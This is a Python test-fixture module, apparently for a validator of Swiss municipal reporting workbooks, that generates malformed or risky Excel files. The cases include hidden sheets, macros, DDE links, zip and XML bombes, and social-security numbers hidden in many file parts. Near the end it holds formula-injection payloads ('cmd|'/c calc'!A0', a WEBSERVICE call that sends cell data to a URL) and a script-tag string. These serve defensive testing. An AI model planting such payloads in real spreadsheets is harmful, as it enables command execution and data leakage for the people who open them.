    "Bedingt hervorgehoben": lambda: bedingt(
        ausgefuellt(), "C20:C60", '<cfRule type="expression" dxfId="0" priority="1"><formula>1</formula></cfRule>',
        '<dxf><font><color rgb="FF7A0B1C"/></font><fill><patternFill><bgColor rgb="FFF8D7DA"/></patternFill></fill>'
        "</dxf>",
    ),
    "Balken ohne Zahl": lambda: bedingt(
        ausgefuellt(), "C21", '<cfRule type="dataBar" priority="1"><dataBar showValue="0"/></cfRule>'
    ),
    "Textfeld über einer Anzahl": lambda: ueberdeckt(ausgefuellt(), (20, 2), (20, 3), "12"),
    "Textfeld neben den Anzahlen": lambda: ueberdeckt(ausgefuellt(), (20, 5), (23, 6), "12"),
    "Zeilen ohne Höhe": lambda: umbau(
        ausgefuellt(),
        blatt=lambda xml: re.sub(
            rb'(<row r="22"[^>]*?) ht="[^"]*" customHeight="1"', rb"\1",
            xml.replace(b'defaultRowHeight="15.75"', b'defaultRowHeight="0"'),
        ),
    ),
    "Zeile, die fast keine Höhe hat": lambda: umbau(
        ausgefuellt(), blatt=lambda xml: re.sub(rb'(<row r="22"[^>]*? )ht="[^"]*"', rb'\1ht="0.75"', xml)
    ),
    "Formular ist kein Blatt": lambda: mit_teil(ausgefuellt(), BLATT, b"<html><body>Reporting</body></html>"),
    "Kennblatt ist kein Blatt": lambda: umbau(ausgefuellt(), kenn=lambda _: b"<chartsheet/>"),
    "Blatt ohne Beziehung": lambda: umbau(ausgefuellt(), mappe=ersatz('r:id="rId4"', 'r:id="rId44"')),
    "Zwei Blätter in einem Teil": lambda: umbau(ausgefuellt(), mappe=ersatz('r:id="rId2"', 'r:id="rId1"')),
    "Zwei Inhalte in einem Blatt": lambda: umbau(
        ausgefuellt(), blatt=ersatz("</sheetData>", "</sheetData><sheetData/>")
    ),
    "Zeilen eingefügt": lambda: verschoben(ausgefuellt(), 2, 0),
    "Spalten eingefügt": lambda: verschoben(ausgefuellt(), 0, 3),
    "Eingaberegeln und Formate verloren": ohne_eingaberegeln,
    "Blatt umbenannt": lambda: umbenannt(ausgefuellt(), "1. Halbjahr"),
    "Blatt ausgeblendet": lambda: umbau(ausgefuellt(), mappe=ersatz('"Reporting"', '"Reporting" state="hidden"')),
    "Blatt ganz versteckt": lambda: umbau(ausgefuellt(), mappe=ersatz('"Reporting"', '"Reporting" state="veryHidden"')),
    "Blätter umgestellt": lambda: umbau(ausgefuellt(), mappe=blattfolge),
    "Eigenes Blatt dazu": lambda: mit_blatt(ausgefuellt(), "Gesprächsliste", LISTE),
    "Blatt in der Mappe kopiert": lambda: kopiertes_blatt(ausgefuellt(), "Reporting (2)"),
    "Blatt einer anderen Gemeinde dazu": lambda: kopiertes_blatt(ausgefuellt(), "Trimbach", fremde_gemeinde),
    "Kopie ohne Namen": lambda: mit_blatt(ausgefuellt(), "Sicherung", teile(ausgefuellt())[BLATT]),
    "Selbstdeklaration dazu": lambda: mit_blatt(
        ausgefuellt(), "Selbstdeklaration", _mit_texten(teile(geloeste_texte(anhang3()))[BLATT])
    ),
    "Blatt kopiert, Original gelöscht": nur_die_kopie,
    "Zwei Kopien": lambda: kopiertes_blatt(kopiertes_blatt(ausgefuellt(), "Reporting (2)"), "Reporting (3)"),
    "Kopie des Kennblatts": lambda: mit_blatt(
        ausgefuellt(), "_krs (2)", teile(ausgefuellt())["xl/worksheets/sheet4.xml"], ' state="hidden"'
    ),
    "Umbenannt und kopiert": lambda: mit_blatt(
        umbenannt(ausgefuellt(), "Juli"), "Juli (2)", teile(ausgefuellt())[BLATT]
    ),
    "Erläuterungen umbenannt": lambda: umbau(ausgefuellt(), mappe=ersatz("Erläuterungen", "Hilfe")),
    # macros and links
    "Makros": Datei(mit_makros, "Formular.xlsm"),
    "Makros mit Rückstrichen": lambda: packen(
        {n.replace("/", "\\"): v for n, v in teile(mit_makros()).items()}
    ),
    "Makros unter anderem Namen": lambda: mit_beziehung(
        mit_teil(ausgefuellt(), "xl/daten.bin", b"x"), RELS, "vbaProject", "daten.bin"
    ),
    "Excel-4-Makros": mit_alten_makros,
    "Verknüpfung zu einer Mappe": lambda: mit_verknuepfung(ausgefuellt(), BUCH),
    "DDE-Verknüpfung": lambda: mit_verknuepfung(ausgefuellt(), DDE),
    "Datenverbindung": mit_abfrage,
    "Bild von einem Server": mit_fernem_bild,
    "Hyperlinks und E-Mail-Adressen": mit_hyperlinks,
    "Makros und Verknüpfungen": lambda: mit_verknuepfung(mit_makros(), DDE),
    # the same, saved otherwise
    "Falsche Grösse": lambda: umbau(ausgefuellt(), blatt=ersatz('<dimension ref="A1:F60"', '<dimension ref="A1"')),
    "Zelle in der letzten Ecke": lambda: umbau(
        ausgefuellt(),
        blatt=ersatz("</sheetData>", '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'),
    ),
    "Gemeinsame Texte": lambda: geteilte_texte(ausgefuellt()),
    "Texte in Stücken": gestueckelt,
    "Strict OOXML": lambda: umbau(ausgefuellt(), alle=strikt),
    "Namensräume mit Präfix": lambda: umbau(ausgefuellt(), mappe=mit_praefix, blatt=mit_praefix, kenn=mit_praefix),
    "Teile in UTF-16": lambda: umbau(ausgefuellt(), alle=utf16),
    "Pfade mit Rückstrichen": lambda: packen({n.replace("/", "\\"): v for n, v in teile(ausgefuellt()).items()}),
    "Ohne Eigenschaften": ohne_eigenschaften,
    "Zeitrechnung ab 1904": ab_1904,
    "Archiv mit Grössen am Schluss": mit_kennzeichen,
    "Archiv ungepackt": lambda: packen(teile(ausgefuellt()), zipfile.ZIP_STORED),
    "Archiv mit Anhängsel": lambda: ausgefuellt() + b"\r\n-- \r\nGesendet",
    # no workbook
    "Leere Datei": Datei(lambda: b""),
    "Abgebrochene Übertragung": Datei(lambda: ausgefuellt()[:9000]),
    "Doppelter Teil": doppelter_teil,
    **{
        f"Doppelter Teil: {name}": lambda name=name: mit_doppel(name)
        for name in ("xl/./worksheets/sheet1.xml", "xl//worksheets/sheet1.xml", "xl/worksheets/sheet%31.xml",
                     "xl/worksheets/sheet1.xml.", "xl/worksheets/../worksheets/sheet1.xml",
                     "xl/worksheets/sheet1.xml/[0].piece")
    },
    "Blatt als Diagramm angekündigt": lambda: angekuendigt("spreadsheetml.worksheet+", "spreadsheetml.chartsheet+"),
    "Mappe als Brief angekündigt": lambda: angekuendigt("spreadsheetml.sheet.main", "wordprocessingml.document.main"),
    "Mappe als Vorlage angekündigt": lambda: angekuendigt("spreadsheetml.sheet.main", "spreadsheetml.template.main"),
    "Texte als Formate angekündigt": lambda: angekuendigt("spreadsheetml.sharedStrings+", "spreadsheetml.styles+"),
    "Beziehung zu einem Diagramm": lambda: umbau(
        ausgefuellt(), rels=lambda xml: xml.replace(b'relationships/worksheet"', b'relationships/chartsheet"', 1)
    ),
    "Beziehung nach aussen": lambda: umbau(
        ausgefuellt(), rels=ersatz('Target="worksheets/sheet1', 'TargetMode="External" Target="worksheets/sheet1')
    ),
    "Zwei Beziehungen eines Namens": lambda: mit_beziehung(
        ausgefuellt(), RELS, "worksheet", "worksheets/sheet2.xml", kennung="rId1"
    ),
    "Zwei Mappen": lambda: mit_beziehung(
        mit_teil(ausgefuellt(), "xl/b.xml", teile(ausgefuellt())[MAPPE]), "_rels/.rels", "officeDocument", "xl/b.xml"
    ),
    "Zip-Bombe": zip_bombe,
    "XML-Bombe": lambda: umbau(ausgefuellt(), blatt=xml_bombe),
    "Blatt, das seine Grösse verschweigt": mit_luege,
    "Verschlüsselt": Datei(lambda: ole("EncryptionInfo", "EncryptedPackage")),
    "Altes Excel": Datei(lambda: ole("Workbook"), "Formular.xls"),
    "Binäres Excel": Datei(lambda: packen({"xl/workbook.bin": b""}), "Formular.xlsb"),
    "OpenDocument": Datei(
        lambda: packen({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet"}), "Formular.ods"
    ),
    "Apple Numbers": Datei(lambda: packen({"Index/Document.iwa": b""}), "Formular.numbers"),
    "Textdatei": Datei(lambda: b"Feld;Wert\nFamilien;8\n", "Formular.csv"),
    "PDF mit falscher Endung": Datei(lambda: b"%PDF-1.7\n%\xe2\xe3"),
    "HTML mit falscher Endung": Datei(lambda: b"<html><table><tr><td>8</td></tr></table></html>", "Formular.xls"),
    "Brief": Datei(lambda: packen({"word/document.xml": b"<w/>", "[Content_Types].xml": b"<Types/>"}), "Brief.docx"),
    "Eigene Mappe": Datei(
        lambda: umbau(ausgefuellt(), kenn=zelle("B1", "", ""), mappe=ersatz('"_krs"', '"_alt"')), "Liste.xlsx"
    ),
    "Sperrdatei": Datei(lambda: b"\x05Muster".ljust(165), "~$Formular.xlsx"),
    "Gespeicherte E-Mail": Datei(lambda: b"From: anna@example.ch\r\n\r\nGuten Tag", "Reporting.eml"),
    "Verweis auf Google": Datei(lambda: b'{"url": "https://docs.google.com/open?id=1"}', "Reporting.gsheet"),
    "Platzhalter der Cloud": Datei(lambda: b"bplist00", ".Formular.xlsx.icloud"),
    # AHV numbers
    "AHV-Nummer in den Bemerkungen": lambda: text("bemerkungen", f"Frau X, {AHV}, umgezogen"),
    "AHV-Nummer mit Leerschlägen": lambda: text("bemerkungen", "756 1234 5678 97"),
    "AHV-Nummer mit Strichen": lambda: text("bemerkungen", "756-1234-5678-97"),
    "AHV-Nummer ohne Zeichen": lambda: text("bemerkungen", "7561234567897"),
    "AHV-Nummer mit Unterstrichen": lambda: text("bemerkungen", "756_1234_5678_97"),
    "AHV-Nummer mit Kommas": lambda: text("bemerkungen", "756, 1234, 5678, 97"),
    "AHV-Nummer mit Buchstaben O": lambda: text("bemerkungen", "756.9O13.4O41.28"),
    "AHV-Nummer im Titel der Datei": lambda: umbau(
        ausgefuellt(), alle=lambda xml: re.sub(rb"<dc:title>[^<]*", f"<dc:title>Frau X, {AHV}".encode(), xml)
    ),
    "AHV-Nummer in einem Namen": lambda: umbau(
        ausgefuellt(),
        mappe=ersatz(
            "</definedNames>", '<definedName name="_756_1234_5678_97">Reporting!$H$9</definedName></definedNames>'
        ),
    ),
    "AHV-Nummer als Wert eines Namens": lambda: mit_namen(f'<definedName name="klient">"{AHV}"</definedName>'),
    "AHV-Nummer im Kommentar eines Namens": lambda: mit_namen(
        f'<definedName name="klient" comment="{AHV}">Reporting!$H$9</definedName>'
    ),
    "AHV-Nummer in den eigenen Eigenschaften": lambda: mit_eigenschaft(AHV),
    "AHV-Nummer als Autor": lambda: umbau(
        ausgefuellt(), alle=lambda xml: re.sub(rb"<dc:creator>[^<]*", f"<dc:creator>{AHV}".encode(), xml)
    ),
    "AHV-Nummer als Autor eines Kommentars": lambda: mit_teil(
        mit_kommentar(ausgefuellt(), "C21", "x"), KOMMENTARE,
        teile(mit_kommentar(ausgefuellt(), "C21", "x"))[KOMMENTARE].replace(b">AM<", f">{AHV}<".encode()),
    ),
    "AHV-Nummer im Design": lambda: mit_teil(
        ausgefuellt(), DESIGN, re.sub(rb'name="Office[^"]*"', f'name="{AHV}"'.encode(), teile(ausgefuellt())[DESIGN])
    ),
    "AHV-Nummer in einer XML-Bemerkung": lambda: umbau(
        ausgefuellt(), blatt=ersatz("</sheetData>", f"<!-- {AHV} --></sheetData>")
    ),
    "AHV-Nummer in einer Zeichnung, roh": lambda: mit_teil(
        mit_textfeld(ausgefuellt(), "xx"), ZEICHNUNG,
        teile(mit_textfeld(ausgefuellt(), "xx"))[ZEICHNUNG].replace(b">x<", f"><![CDATA[{AHV}]]><".encode(), 1),
    ),
    "AHV-Nummer in einer alten Zeichnung": lambda: mit_beziehung(
        mit_teil(ausgefuellt(), "xl/drawings/vmlDrawing1.vml", f"<xml><textbox>{AHV}</textbox></xml>".encode()),
        "xl/worksheets/_rels/sheet1.xml.rels", "vmlDrawing", "../drawings/vmlDrawing1.vml",
    ),
    "AHV-Nummer in der Fusszeile": lambda: umbau(
        ausgefuellt(), blatt=lambda xml: kopfzeile(xml).replace(b"oddHeader", b"evenFooter")
    ),
    "AHV-Nummer in einer Auswahlliste": lambda: umbau(
        ausgefuellt(),
        blatt=ersatz(
            "</dataValidations>",
            f'<dataValidation sqref="H1" type="list"><formula1>"{AHV},x"</formula1></dataValidation></dataValidations>',
        ),
    ),
    "AHV-Nummer als Name eines Formats": lambda: mit_teil(
        ausgefuellt(), STILE,
        re.sub(rb'<cellStyle name="[^"]*"', f'<cellStyle name="{AHV}"'.encode(), teile(ausgefuellt())[STILE]),
    ),
    "AHV-Nummer in breiten Ziffern": lambda: daneben("D21", "\uff17\uff15\uff16.1234.5678.97"),
    "AHV-Nummer in einer Anzahl": lambda: zahl(PERSONEN, "7561234567897"),
    "AHV-Nummer neben den Feldern": lambda: daneben("D21", f"Frau X: {AHV}"),
    "AHV-Nummer in Stücken": lambda: umbau(
        ausgefuellt(),
        blatt=zelle("D21", 't="inlineStr"', "<is><r><t>756.1234.</t></r><r><rPr><b/></rPr><t>5678.97</t></r></is>"),
    ),
    "AHV-Nummer im Nachweis": lambda: im_nachweis(AHV),
    "AHV-Nummer in den gemeinsamen Texten": lambda: geteilte_texte(daneben("D21", AHV)),
    "AHV-Nummer auf einem eigenen Blatt": lambda: mit_blatt(ausgefuellt(), "Liste", LISTE_MIT_NUMMER),
    "AHV-Nummer in einem Kommentar": lambda: mit_kommentar(ausgefuellt(), "C21", f"Frau X, {AHV}"),
    "AHV-Nummer in einem Textfeld": lambda: mit_textfeld(ausgefuellt(), f"Frau X, {AHV}"),
    "AHV-Nummer in der Kopfzeile": lambda: umbau(ausgefuellt(), blatt=kopfzeile),
    "AHV-Nummer als Blattname": lambda: umbenannt(ausgefuellt(), AHV),
    "AHV-Nummer im Feld und daneben": lambda: umbau(
        text("bemerkungen", AHV), blatt=zelle("D21", 't="inlineStr"', f"<is><t>{AHV}</t></is>")
    ),
    "AHV-Nummer und leeres Formular": lambda: umbau(
        vorlage(), blatt=zelle("D21", 't="inlineStr"', f"<is><t>{AHV}</t></is>")
    ),
    "Keine AHV-Nummer: falsche Prüfziffer": lambda: daneben("D21", "756.1234.5678.98"),
    "Keine AHV-Nummer: Artikel einer Liste": lambda: daneben("D21", "7561234567890, 756 O"),
    "Keine AHV-Nummer: längere Nummer": lambda: daneben("D21", "17561234567897"),
    # texts that look like formulas
    "Text wie eine Formel": lambda: text("bemerkungen", '=HYPERLINK("https://example.ch";"hier")'),
    "Text wie ein Befehl": lambda: text("kontakt_name", "+cmd|'/c calc'!A0"),
    "Text wie eine alte Formel": lambda: text("kontakt_funktion", "@SUM(1+1)"),
    "Formel mit Befehl": lambda: formel("bemerkungen", "cmd|'/c calc'!A0", "<v>0</v>"),
    "Formel mit Webadresse": lambda: formel(
        "bemerkungen", 'WEBSERVICE("https://example.ch/?q="&C9)', "<v>ok</v>", 't="str"'
    ),
    "Text mit Markierungen": lambda: text("bemerkungen", "<script>alert(1)</script> & \u202egedreht"),
}  # fmt: skip


def geloeste_texte(daten: bytes) -> bytes:
    """Return a workbook whose texts stand in the cells of its first sheet, as in a sheet copied elsewhere."""
    inhalt = teile(daten)
    texte = re.findall(rb"<si>(.*?)</si>", inhalt[TEXTE], re.DOTALL)

    def hinein(treffer: re.Match[bytes]) -> bytes:
        return b' t="inlineStr"><is>%s</is>' % texte[int(treffer[1])]

    inhalt[BLATT] = re.sub(rb' t="s"><v>(\d+)</v>', hinein, inhalt[BLATT])
    return packen(inhalt)


def _mit_texten(xml: bytes) -> bytes:
    assert b' t="s"' not in xml
    return xml


@cache
def dateien() -> Mapping[str, tuple[bytes, str]]:
    """Return all files: name of the case → bytes and file name."""
    alle = {name: f if isinstance(f, Datei) else Datei(f) for name, f in _FAELLE.items()}
    return MappingProxyType({name: (f.bauen(), f.name) for name, f in alle.items()})


__all__ = ["AHV", "dateien"]
